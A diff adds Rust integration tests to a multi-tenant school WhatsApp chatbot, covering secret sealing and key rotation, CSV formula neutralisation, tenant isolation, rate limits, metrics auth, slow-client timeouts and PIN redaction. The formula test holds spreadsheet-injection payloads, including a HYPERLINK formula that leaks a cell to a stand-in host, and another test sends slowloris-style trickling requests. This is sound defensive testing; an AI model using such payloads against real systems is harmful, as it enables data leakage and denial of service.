@@ -19,6 +19,13 @@ variants!(
     a_phone_guessing_across_students_is_paused,
     concurrent_api_guesses_cannot_pass_the_limit,
     the_api_cannot_impersonate_a_whatsapp_parent,
+    provider_secrets_are_sealed_at_rest_and_survive_rotation,
+    the_results_template_never_carries_a_formula,
+    a_school_cannot_claim_a_phone_it_was_never_written_from,
+    report_cards_are_reused_and_limited_per_phone,
+    metrics_are_not_for_anyone,
+    slow_clients_are_cut_off,
+    pins_are_never_stored_or_sent_to_the_model,
 );
 
 const WEBHOOK: &str = "/api/v1/chatbot/webhooks/whatsapp/";
@@ -541,4 +548,667 @@ async fn the_api_cannot_impersonate_a_whatsapp_parent(v: Variant) {
     );
     app.stop().await.unwrap();
     mock.stop();
+}
+
+/// Every provider secret column of every business number, as stored.
+async fn stored_secrets(app: &TestApp) -> Vec<String> {
+    use chatbot::entities::whatsapp_number;
+    whatsapp_number::Entity::find()
+        .all(&app.state.db)
+        .await
+        .unwrap()
+        .into_iter()
+        .flat_map(|n| [n.app_secret, n.verify_token, n.access_token, n.auth_token])
+        .flatten()
+        .collect()
+}
+
+/// A's Meta number answers: a signed "hi" is accepted and the reply goes out with A's access
+/// token; A's verify token is known.
+async fn meta_number_works(app: &TestApp, mock: &MockGraph, a: &demo::DemoTenant, id: &str) {
+    let parent = a
+        .parent_with_children(1)
+        .unwrap()
+        .phone
+        .trim_start_matches('+');
+    let body = notification(vec![change(
+        &a.whatsapp.phone_number_id,
+        text_from(parent, id, "hi"),
+        json!([]),
+    )]);
+    let bearer = format!("Bearer {}", a.whatsapp.access_token);
+    let with_token = || {
+        mock.received()
+            .iter()
+            .filter(|r| r.authorization.as_deref() == Some(bearer.as_str()))
+            .count()
+    };
+    let sent_before = with_token();
+    let (status, answer) = post_signed(app, &body, &a.whatsapp.app_secret).await;
+    assert_eq!(status, StatusCode::OK, "{answer}");
+    common::eventually(
+        "the reply, sent with A's token",
+        Duration::from_secs(30),
+        || {
+            let more = with_token() > sent_before;
+            async move { more.then_some(()) }
+        },
+    )
+    .await;
+    let r = app
+        .http
+        .get(app.url(WEBHOOK))
+        .query(&[
+            ("hub.mode", "subscribe"),
+            ("hub.verify_token", a.whatsapp.verify_token.as_str()),
+            ("hub.challenge", "c123"),
+        ])
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK);
+    assert_eq!(r.text().await.unwrap(), "c123");
+}
+
+/// Point 5: what the database holds of provider secrets gives none of them away; a row an
+/// older version wrote in clear is sealed at the next start; the server secret is rotated
+/// with CHATBOT_PREVIOUS_SECRET_KEY (secrets sealed again, a PIN hashed again when typed right),
+/// and a secret that does not open under the server secret is refused, never used.
+async fn provider_secrets_are_sealed_at_rest_and_survive_rotation(v: Variant) {
+    use chatbot::entities::whatsapp_number;
+    use sea_orm::{ActiveModelTrait, ColumnTrait, QueryFilter, Set};
+    use secrecy::SecretString;
+    let Some((app, mock, creds)) = start(v).await else {
+        return;
+    };
+    let a = &creds.tenants[0];
+    let plaintexts: Vec<&str> = creds
+        .tenants
+        .iter()
+        .flat_map(|t| {
+            let w = &t.whatsapp;
+            [
+                w.app_secret.as_str(),
+                w.verify_token.as_str(),
+                w.access_token.as_str(),
+                w.twilio_auth_token.as_str(),
+            ]
+        })
+        .collect();
+    let sealed_only = |stored: &[String]| {
+        assert!(stored.len() >= plaintexts.len(), "{}", stored.len());
+        for value in stored {
+            assert!(value.starts_with("sealed:v1:"), "stored in clear");
+            assert!(
+                plaintexts.iter().all(|p| !value.contains(p)),
+                "a secret shows through"
+            );
+        }
+    };
+    sealed_only(&stored_secrets(&app).await);
+    meta_number_works(&app, &mock, a, "wamid.seal1").await;
+
+    // A row written in clear, as an older version did: sealed at the next start.
+    let number = whatsapp_number::Entity::find()
+        .filter(whatsapp_number::Column::PhoneNumberId.eq(a.whatsapp.phone_number_id.as_str()))
+        .one(&app.state.db)
+        .await
+        .unwrap()
+        .unwrap();
+    let mut row: whatsapp_number::ActiveModel = number.into();
+    row.app_secret = Set(Some(a.whatsapp.app_secret.clone()));
+    row.verify_token = Set(Some(a.whatsapp.verify_token.clone()));
+    row.update(&app.state.db).await.unwrap();
+    let app = app.restart(|_| {}).await;
+    sealed_only(&stored_secrets(&app).await);
+    meta_number_works(&app, &mock, a, "wamid.seal2").await;
+
+    // Rotation: the new secret, with the old one as previous, seals everything again.
+    let old = app.settings().secret_key.clone().unwrap();
+    let new = SecretString::from("rotated-secret-key-fedcba9876543210-fedcba".to_string());
+    let before = stored_secrets(&app).await;
+    let student = a
+        .student(&a.parent_with_children(1).unwrap().student_ids[0])
+        .unwrap();
+    let app = app
+        .restart(|s| {
+            s.secret_key = Some(new.clone());
+            s.previous_secret_key = Some(old.clone());
+        })
+        .await;
+    let after = stored_secrets(&app).await;
+    sealed_only(&after);
+    assert!(
+        before.iter().all(|b| !after.contains(b)),
+        "all sealed again"
+    );
+    meta_number_works(&app, &mock, a, "wamid.seal3").await;
+    // The PIN, hashed under the old secret, still opens, and is hashed again under the new.
+    let proof = json!({"student_id": student.student_id, "pin": student.pin});
+    let (status, body) = get_chatbot(&app, &a.api_key, proof.clone()).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    // The old secret retired: everything still works.
+    let app = app.restart(|s| s.previous_secret_key = None).await;
+    meta_number_works(&app, &mock, a, "wamid.seal4").await;
+    let (status, body) = get_chatbot(&app, &a.api_key, proof.clone()).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+
+    // A server started with a wrong secret cannot open them: deliveries are refused, and the
+    // rows are left for the right secret.
+    let settled = stored_secrets(&app).await;
+    let app = app
+        .restart(|s| {
+            s.secret_key = Some(SecretString::from(
+                "some-other-secret-key-0000000000000000000".to_string(),
+            ))
+        })
+        .await;
+    assert_eq!(stored_secrets(&app).await, settled);
+    let parent = a
+        .parent_with_children(1)
+        .unwrap()
+        .phone
+        .trim_start_matches('+');
+    let body = notification(vec![change(
+        &a.whatsapp.phone_number_id,
+        text_from(parent, "wamid.seal5", "hi"),
+        json!([]),
+    )]);
+    let (status, _) = post_signed(&app, &body, &a.whatsapp.app_secret).await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED);
+    let app = app.restart(|s| s.secret_key = Some(new.clone())).await;
+    meta_number_works(&app, &mock, a, "wamid.seal6").await;
+    app.stop().await.unwrap();
+    mock.stop();
+}
+
+/// Point 7: a student imported with names a spreadsheet would run as formulas comes out of the
+/// results template neutralised (a leading `'`), keeps the names as given everywhere else, and
+/// the downloaded template uploads back as it is.
+async fn the_results_template_never_carries_a_formula(v: Variant) {
+    use chatbot::entities::{class, student};
+    use sea_orm::{ColumnTrait, QueryFilter};
+    let Some(app) = TestApp::spawn(v).await else {
+        return;
+    };
+    let (a, _) = app.two_schools().await;
+    let db = &app.state.db;
+    let class = class::Entity::find_by_id(a.class_id)
+        .one(db)
+        .await
+        .unwrap()
+        .unwrap();
+    let names = [
+        (
+            "STU/901",
+            "=HYPERLINK(\"http://evil.test/?\"&A1,\"Open\")",
+            "Bello",
+        ),
+        ("STU/902", "@SUM(1+1)", "Okafor"),
+        ("STU/903", "+1", "Ade"),
+        ("STU/904", "-2+3", "Eze"),
+    ];
+    let rows: Vec<Value> = names
+        .iter()
+        .map(|(id, first, last)| {
+            json!({"student_id": id, "first_name": first, "last_name": last,
+                "class": class.name, "pin": "2468"})
+        })
+        .collect();
+    let r = app
+        .http
+        .post(app.url("/api/v1/chatbot/imports/students/"))
+        .header("X-API-KEY", &a.api_key)
+        .json(&rows)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
+    let query = format!("class_id={}&exam_session_id={}", a.class_id, a.exam_id);
+    let r = app
+        .http
+        .get(app.url(&format!("/api/v1/chatbot/results/manual-template/?{query}")))
+        .header("X-API-KEY", &a.api_key)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK);
+    let template = r.text().await.unwrap();
+    let mut reader = csv::Reader::from_reader(template.as_bytes());
+    let cells: Vec<(String, String)> = reader
+        .records()
+        .map(|r| {
+            let r = r.unwrap();
+            (r[0].to_string(), r[1].to_string())
+        })
+        .collect();
+    for (id, first, last) in names {
+        let (_, cell) = cells.iter().find(|(i, _)| i == id).unwrap();
+        assert_eq!(cell, &format!("'{first} {last}"), "{id}");
+        // The school's own record keeps the name as given.
+        let stored = a
+            .ctx
+            .find::<student::Entity>()
+            .filter(student::Column::StudentId.eq(id))
+            .one(db)
+            .await
+            .unwrap()
+            .unwrap();
+        assert_eq!(stored.first_name, first);
+    }
+    // An innocent name is written as it is.
+    assert!(cells.iter().any(|(_, c)| !c.starts_with('\'')));
+    // The template, downloaded and sent back, is accepted.
+    let r = app
+        .http
+        .post(app.url(&format!("/api/v1/chatbot/results/manual-template/?{query}")))
+        .header("X-API-KEY", &a.api_key)
+        .header("Content-Type", "text/csv")
+        .body(template)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(r.status(), StatusCode::OK, "{}", r.text().await.unwrap());
+    app.stop().await.unwrap();
+}
+
+/// Point 9: school B imports the phone of A's parent. On the shared number the parent is not
+/// offered B (nor told it exists), and B's broadcasts from the shared number skip the phone,
+/// until the parent names B there; then B is theirs too.
+async fn a_school_cannot_claim_a_phone_it_was_never_written_from(v: Variant) {
+    use chatbot::entities::{whatsapp_contact, whatsapp_number};
+    use sea_orm::{ColumnTrait, QueryFilter};
+    let Some((app, mock, creds)) = start(v).await else {
+        return;
+    };
+    let (a, b) = (&creds.tenants[0], &creds.tenants[1]);
+    assert_eq!(creds.shared_number.owner, a.schema_name);
+    let db = &app.state.db;
+    let b_ctx = chatbot::tenancy::by_schema_name(
+        db,
+        &chatbot::domain::SchemaName::parse(&b.schema_name).unwrap(),
+    )
+    .await
+    .unwrap();
+    let b_phones: Vec<String> = b_ctx
+        .find::<whatsapp_contact::Entity>()
+        .all(db)
+        .await
+        .unwrap()
+        .into_iter()
+        .map(|c| c.phone)
+        .collect();
+    let victim = a
+        .parents
+        .iter()
+        .find(|p| !p.student_ids.is_empty() && !b_phones.contains(&p.phone))
+        .expect("a parent of A only");
+    let (status, body) = app
+        .api(
+            &b.api_key,
+            reqwest::Method::POST,
+            "/imports/contacts/",
+            Some(json!([{"phone": victim.phone, "name": "claimed"}])),
+        )
+        .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+
+    // On the shared number: straight to A, B never named.
+    let shared = &creds.shared_number.phone_number_id;
+    let platform = &a.whatsapp.app_secret;
+    let digits = victim.phone.trim_start_matches('+');
+    let said = turn(&app, shared, platform, digits, "wamid.claim1", "hi").await;
+    assert!(said.contains(&a.name) || said.contains("Welcome"), "{said}");
+    assert!(!said.contains(&b.name), "B offered: {said}");
+    let said = turn(
+        &app,
+        shared,
+        platform,
+        digits,
+        "wamid.claim2",
+        "switch school",
+    )
+    .await;
+    assert!(!said.contains(&b.name), "B offered: {said}");
+
+    // B, with only the shared number to send from, broadcasts to the whole school: not to
+    // the phone it imported.
+    whatsapp_number::Entity::delete_many()
+        .filter(whatsapp_number::Column::TenantId.eq(b_ctx.id()))
+        .filter(whatsapp_number::Column::Shared.eq(false))
+        .exec(db)
+        .await
+        .unwrap();
+    let (_, notice) = app
+        .api(
+            &b.api_key,
+            reqwest::Method::POST,
+            "/notices/",
+            Some(json!({"title": "Fees", "body": "Pay now"})),
+        )
+        .await;
+    let (status, job) = app
+        .api(
+            &b.api_key,
+            reqwest::Method::POST,
+            &format!("/notices/{}/broadcast/", notice["id"]),
+            None,
+        )
+        .await;
+    assert_eq!(status, StatusCode::ACCEPTED, "{job}");
+    let job_path = format!("/jobs/{}/", job["id"]);
+    let done = common::eventually("the broadcast done", Duration::from_secs(30), || async {
+        let (_, job) = app
+            .api(&b.api_key, reqwest::Method::GET, &job_path, None)
+            .await;
+        (job["status"] == "done").then_some(job)
+    })
+    .await;
+    let (_, recipients) = app
+        .api(
+            &b.api_key,
+            reqwest::Method::GET,
+            &format!("/jobs/{}/recipients/?page_size=100", job["id"]),
+            None,
+        )
+        .await;
+    let to: Vec<&str> = recipients["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|r| r["phone"].as_str().unwrap())
+        .collect();
+    assert_eq!(done["total"].as_u64(), Some(to.len() as u64), "{done}");
+    assert!(
+        !to.is_empty() && !to.contains(&victim.phone.as_str()),
+        "{to:?}"
+    );
+
+    // The parent names B: now B is theirs, and listed beside A.
+    let said = turn(&app, shared, platform, digits, "wamid.claim3", &b.name).await;
+    assert!(said.contains("Welcome") || said.contains(&b.name), "{said}");
+    // Asked which school (a turn of no school: read where it is sent), both are offered.
+    let body = notification(vec![change(
+        shared,
+        text_from(digits, "wamid.claim4", "switch school"),
+        json!([]),
+    )]);
+    assert_eq!(post_signed(&app, &body, platform).await.0, StatusCode::OK);
+    let offered = common::eventually("the choice of schools", Duration::from_secs(30), || {
+        let found = mock
+            .received()
+            .into_iter()
+            .map(|r| r.body.to_string())
+            .find(|sent| sent.contains(digits) && sent.contains(&a.name) && sent.contains(&b.name));
+        async move { found }
+    })
+    .await;
+    assert!(offered.contains("interactive"), "{offered}");
+    app.stop().await.unwrap();
+    mock.stop();
+}
+
+/// Point 11: twenty report-card requests for the same child and exam store one PDF (each
+/// answer links to it); fresh renders are limited per phone: the eleventh in an hour is
+/// refused with a clear message.
+async fn report_cards_are_reused_and_limited_per_phone(v: Variant) {
+    use chatbot::entities::report;
+    let Some((app, mock, creds)) = start(v).await else {
+        return;
+    };
+    let school = &creds.tenants[0];
+    let parent = school.parent_with_children(1).unwrap();
+    let ask = async || {
+        let mut last = Value::Null;
+        for text in ["report card", "1"] {
+            let r = app
+                .http
+                .post(app.url("/api/v1/chatbot/messages/"))
+                .header("X-API-KEY", &school.api_key)
+                .json(&json!({"phone": parent.phone, "text": text}))
+                .send()
+                .await
+                .unwrap();
+            assert_eq!(r.status(), StatusCode::OK);
+            last = r.json().await.unwrap();
+        }
+        last["replies"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|r| r["plain"].as_str().unwrap_or_default().to_string())
+            .collect::<Vec<_>>()
+            .join("\n")
+    };
+    let mut links = std::collections::BTreeSet::new();
+    for _ in 0..20 {
+        let said = ask().await;
+        let link = said
+            .lines()
+            .find(|l| l.contains("/files/reports/"))
+            .unwrap_or_else(|| panic!("a card: {said}"));
+        links.insert(link.split('?').next().unwrap().to_string());
+    }
+    assert_eq!(links.len(), 1, "{links:?}");
+    assert_eq!(rows::<report::Entity>(&app).await, 1);
+
+    // Cards cleared each time (as the cleanup does): each request renders anew, up to the limit.
+    for render in 2..=chatbot::reports::RENDERS_PER_PHONE_PER_HOUR + 1 {
+        report::Entity::delete_many()
+            .exec(&app.state.db)
+            .await
+            .unwrap();
+        let said = ask().await;
+        if render <= chatbot::reports::RENDERS_PER_PHONE_PER_HOUR {
+            assert!(said.contains("/files/reports/"), "render {render}: {said}");
+        } else {
+            assert!(
+                said.contains("many report cards") && !said.contains("/files/reports/"),
+                "render {render}: {said}"
+            );
+        }
+    }
+    assert_eq!(rows::<report::Entity>(&app).await, 0);
+    app.stop().await.unwrap();
+    mock.stop();
+}
+
+/// Point 12: `/metrics` names schools. On the public listener it needs the bearer token, and is
+/// not served at all without one, or when the metrics have their own listener.
+async fn metrics_are_not_for_anyone(v: Variant) {
+    let Some(app) = TestApp::spawn(v).await else {
+        return;
+    };
+    let get = async |app: &TestApp, url: String, token: Option<&str>| {
+        let mut r = app.http.get(url);
+        if let Some(token) = token {
+            r = r.bearer_auth(token);
+        }
+        let r = r.send().await.unwrap();
+        (r.status(), r.text().await.unwrap())
+    };
+    let token = common::METRICS_TOKEN;
+    let (status, _) = get(&app, app.url("/metrics"), None).await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED);
+    let (status, _) = get(&app, app.url("/metrics"), Some("not-the-token-0123456789")).await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED);
+    let (status, text) = get(&app, app.url("/metrics"), Some(token)).await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(text.contains("chatbot_"), "{text}");
+
+    // No token: not served on the public listener.
+    let app = app.restart(|s| s.metrics_token = None).await;
+    let (status, body) = get(&app, app.url("/metrics"), Some(token)).await;
+    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
+    assert!(body.contains("CHATBOT_METRICS_LISTEN"), "{body}");
+
+    // Their own listener: there, and only there.
+    let app = app
+        .restart(|s| s.metrics_listen = Some(([127, 0, 0, 1], 0).into()))
+        .await;
+    let private = app.metrics_addr.expect("a metrics listener");
+    let (status, text) = get(&app, format!("http://{private}/metrics"), None).await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(text.contains("chatbot_"), "{text}");
+    let (status, _) = get(&app, format!("http://{private}/healthz"), None).await;
+    assert_eq!(
+        status,
+        StatusCode::NOT_FOUND,
+        "the metrics listener serves metrics only"
+    );
+    let (status, _) = get(&app, app.url("/metrics"), None).await;
+    assert_eq!(status, StatusCode::NOT_FOUND);
+    app.stop().await.unwrap();
+}
+
+/// Point 13: a client sending its headers a byte at a time, or stopping half-way through a
+/// body, is cut off after the read timeout (1 s here) instead of holding the connection; one
+/// that never starts is too. A kept-alive connection may pause between requests.
+async fn slow_clients_are_cut_off(v: Variant) {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let Some(env) = TestEnv::new(v).await else {
+        return;
+    };
+    let mut env = env;
+    env.settings.request_read_timeout_secs = 1;
+    let app = env.start().await;
+    // Far longer than the read timeout: how long a client keeps trying before giving up.
+    let patience = Duration::from_secs(20);
+
+    // Headers trickling in: the server hangs up (the client never gets to finish them).
+    let mut slow = tokio::net::TcpStream::connect(app.addr).await.unwrap();
+    slow.write_all(b"POST /api/v1/chatbot/webhooks/whatsapp/ HTTP/1.1\r\nHost: x\r\n")
+        .await
+        .unwrap();
+    let trickle = async {
+        for i in 0.. {
+            tokio::time::sleep(Duration::from_millis(200)).await;
+            if slow
+                .write_all(format!("X-{i}: y\r\n").as_bytes())
+                .await
+                .is_err()
+            {
+                return "cut off";
+            }
+            let mut buf = [0u8; 64];
+            if let Ok(Ok(0) | Err(_)) =
+                tokio::time::timeout(Duration::from_millis(1), slow.read(&mut buf)).await
+            {
+                return "cut off";
+            }
+        }
+        unreachable!()
+    };
+    let outcome = tokio::time::timeout(patience, trickle).await;
+    assert_eq!(
+        outcome,
+        Ok("cut off"),
+        "headers sent a byte at a time for ever"
+    );
+
+    // A body that stops half-way: 408, and the connection closed.
+    let mut stalled = tokio::net::TcpStream::connect(app.addr).await.unwrap();
+    stalled
+        .write_all(
+            b"POST /api/v1/chatbot/webhooks/whatsapp/ HTTP/1.1\r\nHost: x\r\n\
+              Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"object\":",
+        )
+        .await
+        .unwrap();
+    let mut answer = String::new();
+    tokio::time::timeout(patience, stalled.read_to_string(&mut answer))
+        .await
+        .expect("the server answers and closes")
+        .unwrap();
+    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
+    assert!(answer.contains("request_timeout"), "{answer}");
+
+    // A connection that never sends a byte is closed.
+    let mut silent = tokio::net::TcpStream::connect(app.addr).await.unwrap();
+    let mut buf = [0u8; 16];
+    let read = tokio::time::timeout(patience, silent.read(&mut buf))
+        .await
+        .expect("the server hangs up");
+    assert!(matches!(read, Ok(0) | Err(_)), "{read:?}");
+
+    // Kept alive: two requests with a pause longer than the read timeout between them.
+    let mut kept = tokio::net::TcpStream::connect(app.addr).await.unwrap();
+    for _ in 0..2 {
+        kept.write_all(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
+            .await
+            .unwrap();
+        let mut got = Vec::new();
+        while !String::from_utf8_lossy(&got).contains("\"ok\"") {
+            let mut buf = [0u8; 1024];
+            let n = tokio::time::timeout(patience, kept.read(&mut buf))
+                .await
+                .unwrap()
+                .unwrap();
+            assert!(n > 0, "closed: {}", String::from_utf8_lossy(&got));
+            got.extend_from_slice(&buf[..n]);
+        }
+        assert!(got.starts_with(b"HTTP/1.1 200"));
+        tokio::time::sleep(Duration::from_millis(2500)).await;
+    }
+    app.stop().await.unwrap();
+}
+
+/// Point 6: a PIN typed out of turn ("my pin is 4821", or the digits alone at the menu) is
+/// neither kept in the transcript nor sent to the model, in that turn or in the history of the
+/// next one.
+async fn pins_are_never_stored_or_sent_to_the_model(v: Variant) {
+    use chatbot::entities::message_log;
+    use chatbot::llm::mock::{MockLlm, Script};
+    let llm = MockLlm::start(
+        ([127, 0, 0, 1], 0).into(),
+        Script::from_yaml("default: {content: \"I can only help with school matters.\"}").unwrap(),
+    )
+    .await
+    .unwrap();
+    let Some(mut env) = TestEnv::new(v).await else {
+        return;
+    };
+    let mock = MockGraph::start(([127, 0, 0, 1], 0).into()).await.unwrap();
+    env.settings.whatsapp_api_base = mock.base_url();
+    env.settings.llm_base_url = Some(llm.base_url());
+    env.settings.llm_model = "mock-1".into();
+    let app = env.start().await;
+    let creds = demo::seed(&app.state.db, &app.state.secret).await.unwrap();
+    let school = &creds.tenants[0];
+    let parent = school.parent_with_children(1).unwrap();
+    let pin = school.student(&parent.student_ids[0]).unwrap().pin.clone();
+    let mut chat = Parent::new(&app, school, &parent.phone);
+    chat.says("hi").await;
+    for text in [
+        format!("my pin is {pin} but the app says wrong, why is that"),
+        pin.clone(),
+        format!("{pin} is the code they gave me, it does not open the portal"),
+        "and what about the sports day".to_string(),
+    ] {
+        chat.says(&text).await;
+    }
+    let stored: Vec<String> = message_log::Entity::find()
+        .all(&app.state.db)
+        .await
+        .unwrap()
+        .into_iter()
+        .map(|m| m.body)
+        .collect();
+    assert!(
+        stored.iter().any(|b| b.contains("[PIN withheld]")),
+        "{stored:?}"
+    );
+    assert!(
+        !stored.iter().any(|b| b.contains(&pin)),
+        "a PIN kept: {stored:?}"
+    );
+    let prompts: Vec<String> = llm.requests().iter().map(|r| r.prompt_text()).collect();
+    assert!(prompts.len() >= 2, "the model was asked: {}", prompts.len());
+    assert!(
+        prompts.iter().all(|p| !p.contains(&pin)),
+        "a PIN sent to the model"
+    );
+    app.stop().await.unwrap();
+    mock.stop();
+    llm.stop();
 }
